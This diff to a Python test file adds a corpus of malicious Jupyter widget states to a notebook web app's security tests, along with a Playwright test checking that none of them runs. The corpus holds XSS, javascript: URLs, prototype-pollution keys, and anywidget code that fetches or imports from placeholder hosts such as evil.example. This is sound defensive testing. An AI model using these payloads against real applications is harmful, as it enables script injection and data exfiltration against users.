@@ -226,6 +226,81 @@ MERMAID = [
     "graph LR; A-->B; style A fill:url(URL/f.png)",
     'graph LR; A@{ img: "URL/i.png", label: "x" }',
 ]
+CONTROLS = "@jupyter-widgets/controls"
+ESM = "export default { render({ model, el }) { %s } }"
+
+
+def _widget(name: str, module: str = CONTROLS, **state: Any) -> dict[str, Any]:
+    names = {"_model_name": f"{name}Model", "_view_name": f"{name}View", "_model_module": module}
+    versions = {"_view_module": module, "_model_module_version": "2.0.0", "_view_module_version": "2.0.0"}
+    return names | versions | state
+
+
+def _anywidget(esm: str, **state: Any) -> dict[str, Any]:
+    names = {"_model_name": "AnyModel", "_view_name": "AnyView"}
+    return _widget("Any", "anywidget", _anywidget_id="x", _esm=esm, **names, **state)
+
+
+def _output(mime_type: str, content: Any) -> dict[str, Any]:
+    return _widget("Output", "@jupyter-widgets/output", outputs=[display(mime_type, content)])
+
+
+def display(mime_type: str, content: Any, **more: Any) -> dict[str, Any]:
+    data = {mime_type: content, "text/plain": "<img src=x onerror=JS>"} | more
+    return {"output_type": "display_data", "metadata": {}, "data": data}
+
+
+WIDGETS = [
+    _widget("HTML", value="<img src=x onerror=JS>"),
+    _widget("HTML", value="<svg onload=JS></svg><iframe srcdoc='<script>JS</script>'></iframe>"),
+    _widget("HTML", value="<a href='javascript:JS'>click</a><form action=URL><button>click</button></form>"),
+    _widget(
+        "HTML", value="<link rel=stylesheet href=URL/a.css><img src=URL/a.png>", description="<b onclick=JS>x"
+    ),
+    _widget("HTMLMath", value="$\\href{javascript:JS}{x}$<img src=x onerror=JS>"),
+    _widget("Label", value="<script>JS</script>"),
+    _widget("Button", description="<img src=x onerror=JS>", tooltip='"onclick=JS', icon='x" onclick="JS'),
+    _widget("Text", value='"><script>JS</script>', placeholder="<img src=x onerror=JS>"),
+    _widget("Image", format="svg+xml", value=""),
+    _widget("Video", format="url", value="URL/v.mp4"),
+    _widget(
+        "IntSlider",
+        value=1,
+        readout_format="JS",
+        description_allow_html=True,
+        description="<img src=x onerror=JS>",
+    ),
+    _widget("Dropdown", _options_labels=["<img src=x onerror=JS>"], index=0),
+    _widget("VBox", children=["IPY_MODEL_nowhere", "IPY_MODEL___proto__", "<img src=x onerror=JS>"]),
+    _widget("VBox", "https://evil.example/widgets.js"),
+    _widget("VBox", "data:text/javascript,JS"),
+    _widget("VBox", "../../frames/output"),
+    _widget("VBox", "__proto__"),
+    _widget("constructor", "@jupyter-widgets/base"),
+    _widget("VBox") | {"_view_module": "URL/x.js"},
+    _output("text/html", "<script>JS</script><img src=URL/o.png>"),
+    _output("application/javascript", "JS"),
+    _output("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>"),
+    _output("text/markdown", "[click](javascript:JS)"),
+    _anywidget(ESM % "JS"),
+    _anywidget(ESM % "top.location = 'URL'; JS"),
+    _anywidget(ESM % "open('URL'); parent.document.title = 'x'"),
+    _anywidget(ESM % "fetch('URL/f'); import('URL/m.js'); new Worker('URL/w.js')"),
+    _anywidget(ESM % "el.innerHTML = '<img src=URL/e.png onerror=JS>'"),
+    _anywidget(
+        ESM % "parent.postMessage({type:'comm',comm_id:'m0',message_id:'x',data:{method:'custom'}},'*')"
+    ),
+    _anywidget(
+        ESM % "for (const type of ['widgets','show','failed']) parent.postMessage({type,message:'JS'},'*')"
+    ),
+    _anywidget(ESM % "model.set('value', 1); model.save_changes(); model.send({run: 'JS'})"),
+    _anywidget("URL/module.js"),
+    _anywidget("import 'URL/i.js'; " + ESM % "JS"),
+    _anywidget(
+        ESM % "", _css="@import 'URL/c.css'; body { background: url(URL/c.png) } </style><script>JS</script>"
+    ),
+    {"_tandem_problem": "<img src=x onerror=JS>"},
+]
 JSONS: list[Any] = [
     {"<img src=x onerror=JS>": "<script>JS</script>"},
     {"__proto__": {"innerHTML": "<img src=x onerror=JS>"}, "constructor": {"prototype": "JS"}},
@@ -255,11 +330,6 @@ def arm(elsewhere: socket.socket) -> Callable[[Any], Any]:
     return lambda payload: json.loads(
         json.dumps(payload).replace("JS", json.dumps(JS)[1:-1]).replace("URL", url)
     )
-
-
-def display(mime_type: str, content: Any, **more: Any) -> dict[str, Any]:
-    data = {mime_type: content, "text/plain": "<img src=x onerror=JS>"} | more
-    return {"output_type": "display_data", "metadata": {}, "data": data}
 
 
 def outputs_of(text: str) -> list[dict[str, Any]]:
@@ -411,6 +481,58 @@ def test_nothing_of_it_runs(
     # Besides the import, there is only what the kernel said if there was a worker to start one.
     events = NotebookEvent.objects.filter(notebook=notebook).exclude(actor_kind=ActorKind.SYSTEM)
     assert events.count() == 1, "a click on users' content was a command"
+
+
+def test_no_widget_runs(
+    open_tab: OpenTab,
+    server: WebProcess,
+    owner: Person,
+    elsewhere: socket.socket,
+    arm: Callable[[Any], Any],
+) -> None:
+    tab = open_tab(owner)
+    asked: list[str] = []
+    tab.page.context.on("requestfinished", lambda request: asked.append(request.url))
+    tab.page.set_viewport_size({"width": 1280, "height": 6_000})
+    ran = 0
+    # Some at a time: each frame has all of Jupyter's code.
+    for start in range(0, len(WIDGETS), 12):
+        payloads = WIDGETS[start : start + 12]
+        notebook = import_notebook(actor=owner.actor, content=json.dumps(arm(ipynb_with(payloads))).encode())
+        tab.page.goto(f"/notebooks/{notebook.id}/", wait_until="commit")
+        tab.wait_until_connected()
+        # Each is drawn, and says that its kernel is gone, or why it is not.
+        expect(tab.page.locator(".output-widget .output-note:not(:empty)")).to_have_count(len(payloads))
+        tab.page.wait_for_function(
+            """() => [...document.querySelectorAll(".output-widget iframe")].every((frame) => frame.style.height)"""
+        )
+        ran += len([each for each in in_frames(tab.page, "window.__pwn") if each])
+        in_frames(tab.page, CLICK)
+        tab.page.evaluate(PROVOKE)
+        expect(tab.page.locator("tandem-connection")).to_have_attribute("data-status", "connected")
+        assert tab.page.evaluate("window.__pwn") is None
+        assert tab.page.evaluate(FOUND) == []
+        assert tab.page.url.partition("#")[0] == f"{server.url}/notebooks/{notebook.id}/"
+        events = NotebookEvent.objects.filter(notebook=notebook).exclude(actor_kind=ActorKind.SYSTEM)
+        assert events.count() == 1, "a click on a widget was a command"
+    assert ran > 3
+    assert len(tab.page.context.pages) == 1
+    tab.errors.clear()  # of the frames' own scripts
+    assert_nothing_left(asked, server, elsewhere)
+
+
+def ipynb_with(widgets: list[dict[str, Any]]) -> dict[str, Any]:
+    states = {
+        f"m{index}": {"model_name": "x", "model_module": "x", "model_module_version": "x", "state": state}
+        for index, state in enumerate(widgets)
+    }
+    view_type, state_type = (f"application/vnd.jupyter.widget-{part}+json" for part in ("view", "state"))
+    outputs = [
+        display(view_type, {"model_id": name, "version_major": 2, "version_minor": 0}) for name in states
+    ]
+    code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "", "outputs": outputs}
+    held = {state_type: {"version_major": 2, "version_minor": 0, "state": states}}
+    return {"nbformat": 4, "nbformat_minor": 4, "metadata": {"widgets": held}, "cells": [code]}
 
 
 def test_names(
